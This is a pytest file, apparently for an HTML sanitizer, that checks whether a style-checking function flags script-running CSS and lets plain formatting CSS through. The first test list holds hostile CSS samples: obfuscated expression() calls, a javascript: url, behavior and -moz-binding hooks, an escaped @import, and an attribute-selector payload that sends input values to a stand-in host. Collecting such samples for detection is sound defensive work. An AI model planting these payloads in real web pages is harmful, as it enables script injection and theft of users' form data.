from __future__ import annotations

import pytest
from gatelens.languages.html.style import style_effect

from .vocabulary import SMALL


@pytest.mark.parametrize(
    "style",
    [
        "width: expression(alert(1))",
        "width:ex/**/pression(x)",
        "width:\\65xpression(x)",
        "background:url(java\\script:x)",
        "behavior:url(x.htc)",
        "-moz-binding:url(//host.example)",
        "@im\\port '//host.example/x.css'",
        "a:zz('*//*');b:ex/*x*//*/*/pression(x)",
        "input[value^=a]{background:url(//host.example/a)}",
    ],
)
def test_a_style_that_runs_is_found(style: str) -> None:
    assert style_effect(style, SMALL)


@pytest.mark.parametrize(
    "style",
    [
        "color: red; background: url(/a.png) no-repeat",
        "scroll-behavior: smooth",
        "v\\:* {behavior:url(#default#VML);}",
        "@import url('https://films.example/x.css')",
        "font-family: 'expression'; /* script: none */",
        "a[href^=http]{background:url(/a.png)}",
        "a[class=b]{background:url(//host.example/a.png)}",
    ],
)
def test_a_style_that_only_formats_is_harmless(style: str) -> None:
    assert style_effect(style, SMALL) == ""
